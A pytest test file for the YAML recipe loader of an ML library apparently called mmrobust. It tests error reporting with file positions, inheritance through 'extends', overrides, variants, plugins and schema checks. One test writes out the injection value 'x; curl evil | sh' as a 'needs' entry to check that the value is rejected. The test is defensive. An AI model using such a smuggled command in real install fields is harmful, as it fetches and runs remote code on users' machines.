"""A recipe's errors come all at once and point at the file they were written in; what it resolves to runs again."""

from __future__ import annotations

import contextlib
import copy
import json
import tempfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mmrobust import recipe as recipes
from mmrobust.errors import RecipeError
from mmrobust.recipe import Part, Recipe, Weighted, load, shipped
from mmrobust.recipe.compose import extended, read
from mmrobust.recipe.document import dump, parse
from mmrobust.recipe.optimization import Clip
from mmrobust.recipe.schema import json_schema

BASE = """\
recipe: 1
summary: the parent
data: {use: synthetic_affect, train: 40}
model:
  width: 16
  encoder: linear
  generic_extractor: {use: shared_mlp, out: 8}
  specific_extractor: per_modality_mlp
  fusion: {use: cross_attention, depth: 2, heads: 4}
  head: mean_pool_linear
learning:
  views:
    type_1: {noise: {use: window_erase, scope: every_modality}, rate: [0, 0.5], objectives: [task, modality_adversary]}
    type_2: {noise: {use: window_erase, scope: one_modality}, rate: 0.3, objectives: [task, noise_adversary]}
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "base.yaml").write_text(BASE)
    return tmp_path


def child(text: str, name: str = "child.yaml") -> str:
    Path(name).write_text("recipe: 1\nextends: base.yaml\n" + text)
    return name


def errors(ref: str, *overrides: str) -> list[str]:
    with pytest.raises(RecipeError) as caught:
        load(ref, overrides)
    return str(caught.value).splitlines()


# Those that need mmrobust-baselines are tested there.
OURS = [name for name, path in shipped().items() if extended(path, read(path)[1]).get("needs") is None]


@pytest.mark.parametrize("name", OURS)
def test_shipped_recipes_are_right_and_what_they_resolve_to_runs_again(name: str, tmp_path: Path) -> None:
    first = load(name)
    assert first.summary
    file = tmp_path / "resolved.yaml"
    file.write_text(first.to_yaml())
    again = load(file)
    assert again.resolved == first.resolved
    assert (again.data, again.model, again.views) == (first.data, first.model, first.views)
    assert (again.train, again.evaluate) == (first.train, first.evaluate)
    for variant in first.variants:
        assert again.variant(variant).resolved == first.variant(variant).resolved


def test_what_a_recipe_becomes(folder: Path) -> None:
    made = load("base.yaml")
    assert isinstance(made, Recipe)
    assert (made.name, made.summary, made.path) == ("base", "the parent", Path("base.yaml"))
    assert made.source == BASE
    assert made.model.generic_extractor.options["out"] == 8
    assert made.model.fusion.use == "cross_attention"
    assert made.model.modalities is None
    view = made.views["type_1"]
    assert view.rate == (0.0, 0.5)
    assert isinstance(view.noise, Part)
    assert [type(o) for o in view.objectives] == [Weighted, Weighted]
    assert view.objectives[1].part.options["discriminator"].use == "linear"
    assert (made.train.epochs, made.train.seeds, made.train.clip) == (30, (1,), Clip())
    assert made.evaluate.rates == tuple(i / 10 for i in range(11))
    assert made.evaluate.noise[0].use == "frame_drop"
    assert made.evaluate.measures == "auto"


def test_all_errors_at_once_in_the_order_of_the_file(folder: Path) -> None:
    Path("bad.yaml").write_text(
        """\
recipe: 1
name: a/b
data: {use: synthetic_afect}
model:
  width: sixteen
  encoder: {use: each, others: {use: liner}, parts: {text: {use: linear, bais: true}}}
  generic_extractor: {use: shared_mlp, dropout: 0.5.1}
  fusion: {use: cross_attention, depht: 4, norm: prae}
  head: [mean_pool_linear]
learning:
  views:
    type 1: {noise: window_erase, objectives: [task, {use: task, weight: -1, reads: [typ]}]}
    type_2: {rate: 2, noise: {use: frame_drop}, objectives: tsk}
train: {lr: 0, epochs: 2.5, seeds: [1, 1], schedule: cosin, patience: None, epoch: 3}
evaluate: {rates: [0, 0.5, 0.4], draws: 0, metrics: [mae, 1]}
trian: {}
"""
    )
    assert errors("bad.yaml") == [
        "bad.yaml:2:7: error: 'a/b' cannot be a recipe's name: use letters, digits, '.', '_' and '-'",
        "bad.yaml:3:13: error: there is no dataset 'synthetic_afect'; did you mean 'synthetic_affect'?",
        "bad.yaml:4:1: error: model needs 'specific_extractor': a specific_extractor",
        "bad.yaml:5:10: error: model.width has to be a whole number, not 'sixteen'",
        "bad.yaml:6:38: error: there is no encoder 'liner'; did you mean 'linear'?",
        "bad.yaml:6:74: error: encoder 'linear' has no option 'bais'; did you mean 'bias'?",
        "bad.yaml:7:49: error: option 'dropout' of generic_extractor 'shared_mlp' has to be a number, not '0.5.1'",
        "bad.yaml:8:34: error: fusion 'cross_attention' has no option 'depht'; did you mean 'depth'?",
        "bad.yaml:8:50: error: option 'norm' of fusion 'cross_attention' has to be 'pre' or 'post', not 'prae'; did "
        "you mean 'pre'?",
        "bad.yaml:9:9: error: model.head has to be a head, not a list",
        "bad.yaml:12:5: error: 'type 1' cannot be the name of a view: use letters, digits and '_'",
        "bad.yaml:12:5: error: learning.views.type 1 has a noise and needs its rate: a number from 0 to 1, or a pair "
        "as in [0, 0.5]",
        "bad.yaml:12:74: error: learning.views.type 1.objectives: weight has to be at least 0, not -1",
        "bad.yaml:12:86: error: learning.views.type 1.objectives: reads names the view 'typ'; did you mean 'type_2'?",
        "bad.yaml:13:20: error: learning.views.type_2.rate has to be between 0 and 1, not 2",
        "bad.yaml:13:61: error: learning.views.type_2.objectives has to be a list of objectives, not 'tsk'",
        "bad.yaml:14:13: error: train.lr has to be greater than 0, not 0",
        "bad.yaml:14:24: error: train.epochs has to be a whole number, not 2.5",
        "bad.yaml:14:36: error: train.seeds: a seed is there twice",
        "bad.yaml:14:54: error: train.schedule has to be 'cosine' or 'constant' or 'linear' or 'plateau', not "
        "'cosin'; did you mean 'cosine'?",
        "bad.yaml:14:71: error: train.patience has to be a whole number or null, not 'None'; write null",
        "bad.yaml:14:77: error: train has no key 'epoch'; did you mean 'epochs'?",
        "bad.yaml:15:19: error: evaluate.rates have to rise",
        "bad.yaml:15:41: error: evaluate.draws has to be at least 1, not 0",
        "bad.yaml:15:59: error: evaluate.metrics has to be text, not 1; write '1' in quotes",
        "bad.yaml:16:1: error: a recipe has no key 'trian'; did you mean 'train'?",
    ]


def test_an_error_is_where_the_value_was_written_across_extends(folder: Path) -> None:
    Path("base.yaml").write_text(BASE.replace("depth: 2", "depht: 2"))
    child("model: {fusion: {heads: two}}\n")
    assert errors("child.yaml") == [
        "base.yaml:9:34: error: fusion 'cross_attention' has no option 'depht'; did you mean 'depth'?",
        "child.yaml:3:25: error: option 'heads' of fusion 'cross_attention' has to be a whole number, not 'two'",
    ]


def test_where(folder: Path) -> None:
    made = load(child("model:\n  fusion: {heads: 2}\ntrain: {epochs: 3}\n"), ["train.lr=1"])
    assert str(made.where("model", "fusion", "heads")) == "child.yaml:4:12"
    assert str(made.where("model", "fusion", "depth")) == "base.yaml:9:34"
    assert str(made.where("model", "fusion", "ratio")) == "child.yaml:4:3"
    assert str(made.where("learning", "views", "type_1", "objectives", "1", "grl")) == "base.yaml:13:100"
    assert str(made.where("train", "lr")) == "command line"
    assert str(made.where("nowhere")) == "child.yaml"


def test_mappings_merge_lists_replace_and_another_use_drops_options(folder: Path) -> None:
    made = load(child("model: {fusion: {depth: 3}}\nlearning: {views: {type_1: {objectives: [task]}}}\n"))
    assert made.model.fusion.options["depth"] == 3
    assert made.model.fusion.options["heads"] == 4
    assert [o.part.use for o in made.views["type_1"].objectives] == ["task"]
    assert made.views["type_1"].rate == (0.0, 0.5)
    assert (made.name, made.summary) == ("child", ""), "name and summary are not inherited"
    made = load(child("model: {fusion: concat, generic_extractor: {use: identity}, encoder: {bias: false}}\n"))
    assert "heads" not in made.model.fusion.options
    assert made.model.generic_extractor == Part("identity")
    assert made.model.encoder.options["bias"] is False, "options for a bare name"
    made = load(child("model: {fusion: cross_attention}\n"))
    assert made.model.fusion.options["heads"] == 4, "the same name keeps them"
    made = load(child("learning: {views: {~type_2: }}\ntrain: {clip: null}\n"))
    assert list(made.views) == ["type_1"]
    assert made.train.clip is None


def test_overrides(folder: Path) -> None:
    made = load(
        "base.yaml",
        [
            *("train.lr=1e-3", "model.encoder.bias=false", "model.generic_extractor.use=identity", "train.seeds=3"),
            *("learning.views.type_1.objectives.modality_adversary.weight=0.5", "~learning.views.type_2"),
            *("learning.views.type_1.objectives.0={use: task, loss: mae}", "evaluate.rates=[0, 0.25, ..., 1]"),
        ],
    )
    assert made.train.lr == 1e-3
    assert made.train.seeds == (1, 2, 3)
    assert made.model.generic_extractor == Part("identity")
    task, adversary = made.views["type_1"].objectives
    assert task.part.options["loss"] == "mae"
    assert (adversary.part.use, adversary.weight) == ("modality_adversary", 0.5)
    assert list(made.views) == ["type_1"]
    assert made.evaluate.rates == (0, 0.25, 0.5, 0.75, 1)
    assert errors("base.yaml", "model.fusion", "~learning.views.typ", "model.width.x=1", "a..b=1", "=1") == [
        "command line: error: an override looks like a.b.c=value, or ~a.b.c to delete, not 'model.fusion'",
        "command line: error: there is no 'learning.views.typ' to delete; did you mean 'type_2'?",
        "command line: error: 'model.width.x' leads nowhere: 'model.width' is 16",
        "command line: error: 'a..b' is no path of keys with dots between them",
        "command line: error: an override looks like a.b.c=value, or ~a.b.c to delete, not '=1'",
    ]
    assert errors("base.yaml", "learning.views.type_1.objectives.tsk.weight=1") == [
        "command line: error: 'learning.views.type_1.objectives' is a list without 'tsk'; did you mean 'task'?"
    ]
    assert errors("base.yaml", "train.lr=[1")[0].startswith("command line: error: the value of 'train.lr': this is not")


def test_extends_in_circles_and_into_nothing(folder: Path) -> None:
    Path("a.yaml").write_text("recipe: 1\nextends: b.yaml\n")
    Path("b.yaml").write_text("recipe: 1\nextends: a.yaml\n")
    assert errors("a.yaml") == ["b.yaml:2:10: error: this is a circle: a.yaml extends b.yaml extends a.yaml"]
    Path("a.yaml").write_text("recipe: 1\nextends: bas.yaml\n")
    assert errors("a.yaml") == ["a.yaml:2:10: error: there is no recipe file 'bas.yaml'; did you mean 'base.yaml'?"]
    Path("a.yaml").write_text("recipe: 1\nextends: normtre\n")
    assert errors("a.yaml")[0].startswith(
        "a.yaml:2:10: error: there is no shipped recipe 'normtre'; did you mean 'normt"
    )
    Path("a.yaml").write_text("recipe: 1\nextends: [base.yaml]\n")
    assert "extends names one recipe" in errors("a.yaml")[0]
    Path("sub").mkdir()
    Path("sub/c.yaml").write_text("recipe: 1\nextends: ../base.yaml\nmodel: {fusion: concat}\n")
    assert load("sub/c.yaml").model.fusion.use == "concat"


def test_files_that_are_no_recipe(folder: Path) -> None:
    Path("x.yaml").write_text("data: x\n")
    assert errors("x.yaml") == ["x.yaml:1:1: error: this says no version; write 'recipe: 1' at the top"]
    Path("x.yaml").write_text("recipe: 2\n")
    assert errors("x.yaml") == [
        "x.yaml:1:9: error: this mmrobust reads recipes of version 1, not 2 (a later mmrobust may)"
    ]
    Path("x.yaml").write_text("- a\n")
    assert errors("x.yaml") == ["x.yaml:1:1: error: a recipe is a mapping of sections, not a list"]
    Path("x.yaml").write_bytes(b"recipe: 1\nname: \xff\n")
    assert errors("x.yaml") == ["x.yaml:2:7: error: the file is not UTF-8 text"]
    Path("x.yaml").write_text("a: " + "x" * 1_000_001)
    assert errors("x.yaml") == ["x.yaml: error: the file is larger than 1 MB"]
    assert errors("gone.yaml") == ["error: there is no recipe file 'gone.yaml'"]
    assert errors("bsae.yaml") == ["error: there is no recipe file 'bsae.yaml'; did you mean 'base.yaml'?"]
    assert errors(".") != []
    Path("x.yaml").write_text("recipe: 1\n")
    assert errors("x.yaml") == [
        "x.yaml:1:1: error: a recipe needs the section 'data': a dataset",
        "x.yaml:1:1: error: a recipe needs the section 'model': a mapping",
        "x.yaml:1:1: error: a recipe needs the section 'learning': a mapping of views",
    ]


@pytest.mark.parametrize(
    ("text", "values"),
    [
        ("[0, 0.1, ..., 1.0]", tuple(i / 10 for i in range(11))),
        ("[0, 0.2, ..., 0.8, 1]", (0, 0.2, 0.4, 0.6, 0.8, 1)),
        ("[0.5, 0.55, ..., 0.6]", (0.5, 0.55, 0.6)),
    ],
)
def test_ellipsis(folder: Path, text: str, values: tuple[float, ...]) -> None:
    assert load("base.yaml", [f"evaluate.rates={text}"]).evaluate.rates == values


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[0, ..., 1]", "'...' needs two numbers before it and one after"),
        ("[0, 0.1, ...]", "'...' needs two numbers before it and one after"),
        ("[0, 0.3, ..., 1]", "steps of 0.3 from 0 do not lead to 1"),
        ("[0, 0, ..., 1]", "steps of 0 from 0 do not lead to 1"),
        ("[0, 0.00001, ..., 1]", "would stand for more than 10000 numbers"),
        ("[0, 1.5]", "has to be between 0 and 1, not 1.5"),
        ("[]", "evaluate.rates is empty"),
        ("[0, .nan]", "has to be a finite number"),
        ("0.5", "has to be a list, each item a number"),
    ],
)
def test_ellipsis_and_rates_that_are_wrong(folder: Path, text: str, message: str) -> None:
    assert message in errors("base.yaml", f"evaluate.rates={text}")[0]


def test_paths_are_absolute_and_meant_from_the_recipe(folder: Path) -> None:
    Path("sub").mkdir()
    Path("sub/c.yaml").write_text("recipe: 1\nextends: ../base.yaml\ndata: {use: mmsa, path: data/x.pkl}\n")
    made = load("sub/c.yaml")
    assert made.data.options["path"] == folder / "sub/data/x.pkl"
    assert made.resolved["data"]["path"] == str(folder / "sub/data/x.pkl")
    assert load("sub/c.yaml", ["data.path=x.pkl"]).data.options["path"] == folder / "x.pkl"
    assert load("normtr_mosi").data.options["path"] == folder / "data/mosi/aligned_50.pkl", "shipped: from here"


def test_a_missing_option_says_what_it_is(folder: Path) -> None:
    found = errors(child("data: {use: mmsa}\n"))[0]
    assert found.startswith("child.yaml:3:13: error: dataset 'mmsa' needs the option 'path'")
    assert found.endswith("write data.path")


def test_variants(folder: Path) -> None:
    made = load(
        child(
            """\
train: {seeds: 3}
variants:
  full:
  concat: {model: {fusion: concat}}
  no_noise: ["~learning.views.type_2", "model.width=8"]
  light: {model.width: 8, ~learning.views.type_2: , train.epochs: 1}
"""
        )
    )
    assert made.variants == ("full", "concat", "no_noise", "light")
    assert made.variant("full").model == made.model
    assert made.variant("concat").model.fusion == load("base.yaml", ["model.fusion=concat"]).model.fusion
    assert list(made.variant("no_noise").views) == list(made.variant("light").views) == ["type_1"]
    assert made.variant("light").train.epochs == 1
    assert made.variant("light").variants == ()
    assert made.variant("light").name == "child"
    with pytest.raises(RecipeError, match="has no variant 'ful'; did you mean 'full'"):
        made.variant("ful")


def test_variants_that_are_wrong(folder: Path) -> None:
    found = errors(
        child(
            """\
variants:
  a b: {}
  one: {model.fusion.depht: 1}
  two: ["model.width=big", "~nothing"]
  three: 3
  four: {name: x}
  five: {model: {fusion: {use: concat, heads: 2}}}
"""
        )
    )
    assert found == [
        "child.yaml:4:3: error: 'a b' cannot be a variant's name: use letters, digits, '.', '_' and '-'",
        "child.yaml:5:9: error: fusion 'cross_attention' has no option 'depht'; did you mean 'depth'?",
        "child.yaml:6:28: error: there is no 'nothing' to delete; known: data, extends, learning, model, recipe",
        "child.yaml:7:10: error: variant 'three' has to be a mapping or a list of overrides, not 3",
        "child.yaml:8:10: error: variant 'four' cannot change 'name'",
        "child.yaml:9:40: error: fusion 'concat' has no option 'heads'; it has no options",
    ]


OTHER = """\
recipe: 1
name: other
extends: base.yaml
model: {width: 24, fusion: concat}
learning:
  views:
    ~type_1: null
    ~type_2: null
    clean: {noise: null, objectives: [task]}
train: {epochs: 9, lr: 0.5, clip: null}
"""


def studied(variants: str, own: str = "") -> str:
    """A study that extends the parent, with another recipe beside it."""
    Path("other.yaml").write_text(OTHER)
    return child(f"name: both\n{own}variants:\n{variants}", "study.yaml")


def test_a_variant_may_be_another_recipe(folder: Path) -> None:
    own = "data: {train: 12}\ntrain: {epochs: 2, seeds: 3}\n"
    file = studied("  parent:\n  other: {extends: other.yaml, model.width: 32}\n", own)
    made = load(file, ["train.clip=2", "model.width=48"])
    other = made.variant("other")
    assert made.name == other.name == "both"
    assert other.model.fusion.use == "concat" and made.model.fusion.use == "cross_attention"
    assert list(other.views) == ["clean"] and list(made.variant("parent").views) == ["type_1", "type_2"]
    assert other.data.options["train"] == 12, "the study's file goes over the variant's recipe"
    assert (other.train.epochs, other.train.seeds, other.train.lr) == (2, (1, 2, 3), 0.5)
    assert other.train.clip == Clip(at=2), "and the command line over both"
    assert (other.model.width, made.variant("parent").model.width) == (32, 48), "but a variant's changes come last"
    assert made.changes("other") == {"extends": "other.yaml", "model.width": 32}
    assert made.changes("parent") is None


def test_what_a_study_extends_does_not_reach_a_variant_that_extends_another_recipe(folder: Path) -> None:
    Path("base.yaml").write_text(BASE + "train: {epochs: 4, lr: 0.1, patience: 7}\n")
    Path("lone.yaml").write_text(BASE.replace("width: 16", "width: 24"))
    made = load(studied("  lone: {extends: lone.yaml}\n", "train: {epochs: 5}\n"))
    assert (made.train.epochs, made.train.lr, made.train.patience) == (5, 0.1, 7)
    assert (made.variant("lone").train.epochs, made.variant("lone").train.lr) == (5, 1e-4)
    assert made.variant("lone").train.patience is None


def test_a_study_that_extends_a_study_keeps_its_settings_and_variants(folder: Path) -> None:
    studied("  parent: {}\n  other: {extends: other.yaml}\n", "train: {epochs: 5, batch_size: 3}\n")
    Path("sub").mkdir()
    Path("sub/mosi.yaml").write_text(
        "recipe: 1\nextends: ../study.yaml\ndata: {use: mmsa, path: x.pkl}\ntrain: {epochs: 6}\n"
    )
    made = load("sub/mosi.yaml")
    assert made.variants == ("parent", "other") and made.name == "mosi"
    for name in made.variants:
        variant = made.variant(name)
        assert variant.data.use == "mmsa" and variant.data.options["path"] == folder / "sub/x.pkl"
        assert (variant.train.epochs, variant.train.batch_size) == (6, 3)
    assert made.variant("other").train.lr == 0.5


def test_a_resolved_study_stands_alone(folder: Path) -> None:
    Path("mine.py").write_text(
        "import mmrobust\nfrom mmrobust.contracts import Fusion\n\n@mmrobust.register('fusion', 'of_a_variant')\n"
        "class Mine(Fusion):\n    def __init__(self, context, *, gain: float = 1.0):\n"
        "        super().__init__(context)\n"
    )
    from mmrobust.registry import reset, trust

    try:
        Path("mine.yaml").write_text(
            "recipe: 1\nextends: base.yaml\nplugins: [./mine.py]\nmodel: {fusion: of_a_variant}\n"
        )
        trust("mine.py")
        first = load(studied("  parent:\n  other: {extends: other.yaml}\n  mine: {extends: mine.yaml}\n"))
        Path("base.yaml").unlink()
        Path("other.yaml").unlink()
        Path("resolved.yaml").write_text(first.to_yaml())
        again = load("resolved.yaml")
        assert again.resolved == first.resolved
        for name in first.variants:
            mine, theirs = first.variant(name), again.variant(name)
            assert (mine.data, mine.model, mine.views) == (theirs.data, theirs.model, theirs.views)
            assert (mine.train, mine.evaluate) == (theirs.train, theirs.evaluate)
        assert jsonschema.Draft202012Validator(json_schema()).is_valid(first.resolved)
    finally:
        reset()


def test_errors_of_a_variant_that_extends_stand_where_they_were_written(folder: Path) -> None:
    Path("broken.yaml").write_text(BASE.replace("depth: 2", "depht: 2"))
    file = studied(
        """\
  a: {extends: othr.yaml}
  b: {extends: 3}
  c: {extends: broken.yaml}
  d: {extends: other.yaml, model.fusion.heads: 2}
  e: [extends=other.yaml]
  f: {extends: peers/tnf}
""",
        "data: {trian: 5}\n",
    )
    assert errors(file, "~learning.views.type_2") == [
        "broken.yaml:9:34: error: fusion 'cross_attention' has no option 'depht'; did you mean 'depth'?",
        "study.yaml:4:8: error: dataset 'synthetic_affect' has no option 'trian'; did you mean 'train'?",
        "study.yaml:6:16: error: there is no recipe file 'othr.yaml'; did you mean 'other.yaml'?",
        "study.yaml:7:16: error: extends names one recipe, a path or the bare name of a shipped one, not 3",
        "study.yaml:10:7: error: variant 'e' extends in a mapping only: e: {extends: ...}",
        "study.yaml:11:16: error: there is no shipped recipe 'peers/tnf'; did you mean 'peers/tfn'?; a file's name "
        "ends in .yaml",
        "command line: error: in 'other.yaml': there is no 'learning.views.type_2' to delete; known: clean",
    ]
    found = errors(file)
    assert "study.yaml:9:28: error: fusion 'concat' has no option 'heads'; it has no options" in found


def test_a_study_may_extend_itself_in_a_variant_without_end(folder: Path) -> None:
    assert load(studied("  again: {extends: study.yaml}\n")).variant("again").model.width == 16


def test_needs_tells_once_what_to_install(folder: Path) -> None:
    """What it would have brought is not missed once more, but all else that is wrong is told."""
    text = "needs: [mmrobust-nobody]\nmodel: {fusion: {use: theirs, depth: 2}, head: {use: theirs}, width: wide}\n"
    assert errors(child(text)) == [
        "child.yaml:3:9: error: this recipe needs mmrobust-nobody, which is not installed; "
        "install its folder or wheel, as in 'pip install --no-deps ./plugins/mmrobust-nobody'",
        "child.yaml:4:70: error: model.width has to be a whole number, not 'wide'",
    ]


def test_needs_is_no_way_into_a_shell(folder: Path) -> None:
    found = errors(child("needs: ['x; curl evil | sh', '--index-url=evil', '']\n"))
    assert found == [f"child.yaml:3:{column}: error: needs: '{name}' cannot be the name of a distribution"
                     for column, name in ((9, "x; curl evil | sh"), (30, "--index-url=evil"), (50, ""))]  # fmt: skip


def test_plugins_of_a_recipe(folder: Path) -> None:
    from mmrobust.registry import reset, trust

    Path("mine.py").write_text(
        "import mmrobust\nfrom mmrobust.contracts import Fusion\n\n@mmrobust.register('fusion', 'from_file')\n"
        "class Mine(Fusion):\n    def __init__(self, context, *, gain: float = 1.0):\n"
        "        super().__init__(context)\n"
    )
    try:
        trust("mine.py")
        made = load(child("plugins: [./mine.py]\nmodel: {fusion: {use: from_file, gain: 2}}\n"))
        assert made.plugins == (folder / "mine.py",)
        assert made.model.fusion.options == {"gain": 2.0}
        found = errors(child("plugins: [./gone.py]\n"))
        assert found == [f"child.yaml:3:11: error: there is no plugin file '{folder / 'gone.py'}'"]
    finally:
        reset()


def test_schema_accepts_every_shipped_recipe_and_its_resolved_form() -> None:
    made = json_schema()
    jsonschema.Draft202012Validator.check_schema(made)
    validator = jsonschema.Draft202012Validator(made)
    for name, path in shipped().items():
        for value in [parse(path.read_text(), name).plain, load(name).resolved] if name in OURS else []:
            found = [f"{name}: {'.'.join(map(str, e.path))}: {e.message}" for e in validator.iter_errors(value)]
            assert not found


@pytest.mark.parametrize(
    ("change", "ok"),
    [
        (("model", "fusion", {"use": "cross_attention", "depth": 4}), True),
        (("model", "fusion", {"use": "mmrobust/cross_attention", "depth": 4}), True),
        (("model", "fusion", {"use": "cross_attention", "depht": 4}), False),
        (("model", "fusion", {"use": "cross_attention", "depth": "x"}), False),
        (("model", "fusion", "crossattention"), False),
        (("train", "lr", 0), False),
        (("train", "seeds", 5), True),
        (("train", "epoch", 5), False),
        (("evaluate", "rates", [0, 0.1, "...", 1]), True),
        (("evaluate", "rates", [0, 2]), False),
    ],
)
def test_schema_agrees_with_the_checker(change: tuple[str, str, object], ok: bool) -> None:
    section, key, value = change
    tree = json.loads(json.dumps(load("normtr").resolved))
    tree[section][key] = value
    assert jsonschema.Draft202012Validator(json_schema()).is_valid(tree) == ok


ODD = st.sampled_from([None, True, 0, -1, 1.5, 10**30, "", "x", "task", [], [1], [[]], {}, {"use": "x"}, {"use": None}])


@settings(deadline=None, max_examples=120)
@given(st.data())
def test_whatever_stands_in_a_recipe_is_accepted_or_told(data: st.DataObject) -> None:
    """Any value anywhere, any key missing, any key added: never an exception of another kind."""
    tree = json.loads(json.dumps(load("normtr").resolved))
    for _ in range(data.draw(st.integers(1, 3))):
        here: Any = tree
        while True:
            keys = list(here) if isinstance(here, dict) else list(range(len(here)))
            key = data.draw(st.sampled_from([*keys, "x"] if isinstance(here, dict) else keys)) if keys else "x"
            deeper = here[key] if key in keys else None
            if isinstance(deeper, dict | list) and deeper and data.draw(st.integers(0, 3)):
                here = deeper
                continue
            break
        if isinstance(here, dict) and key in here and data.draw(st.booleans()):
            del here[key]
        elif isinstance(here, dict) or keys:
            here[key] = copy.deepcopy(data.draw(ODD))
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder, "odd.yaml")
        file.write_text(dump(tree))
        try:
            load(file)
        except RecipeError as error:
            assert all(str(p.where).startswith(str(file)) for p in error.problems), str(error)


@settings(deadline=None, max_examples=80)
@given(
    st.lists(
        st.from_regex(r"\A~?(model|learning|views|type_1|objectives|fusion|0|use|[.=~\[{ :,x]){1,8}\Z"), max_size=3
    )
)
def test_whatever_is_typed_as_an_override_is_accepted_or_told(overrides: list[str]) -> None:
    with contextlib.suppress(RecipeError):
        load("normtr", overrides)


def test_recipes_show_themselves_in_a_notebook() -> None:
    assert load("normtr")._repr_html_().startswith("<pre>recipe: 1")
    assert recipes.find("normtr").name == "normtr.yaml"
